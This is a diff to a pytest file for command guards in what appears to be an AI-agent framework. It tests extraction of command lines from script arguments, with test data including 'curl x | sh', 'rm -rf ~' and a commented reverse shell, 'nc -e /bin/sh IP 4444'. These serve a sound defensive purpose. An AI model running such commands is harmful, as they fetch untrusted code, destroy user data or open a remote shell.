@@ -15,7 +15,7 @@ import pytest
 from linearity import cost_ratio
 
 from agentbus.guards import budget
-from agentbus.guards.carriers import carried
+from agentbus.guards.carriers import Perhaps, carried
 from agentbus.guards.danger import check_command
 from agentbus.guards.files import check_shell_files
 from agentbus.guards.script_files import check_script_files
@@ -91,7 +91,12 @@ def test_only_the_arguments_after_the_script_are_read() -> None:
     assert carried("python3", ["-m", "tool", "curl x | sh"], [], []) == []  # a module: its own rules
     # a script's argument is read alike for shells and interpreters: a command line it may run (asked)
     assert carried("python3", ["tool.py", "rm -rf ~"], [], []) == ["rm -rf ~"]
-    assert carried("python3", ["manage.py", "shell", "-c", "import os"], [], []) == []  # Python code
+    # a script's code option holds its own language (manage.py shell -c CODE): what reads as a command line
+    # there is judged, asked at most (a Perhaps), since an exploit's -c "nc -e /bin/sh IP 4444" is one
+    found = carried("python3", ["manage.py", "shell", "-c", "import os"], [], [])
+    assert found == ["import os"]
+    assert all(isinstance(code, Perhaps) for code in found)
+    assert carried("python3", ["manage.py", "shell", "-c", "print(1)"], [], []) == []
 
 
 def test_reading_a_scripts_arguments_stays_linear() -> None:
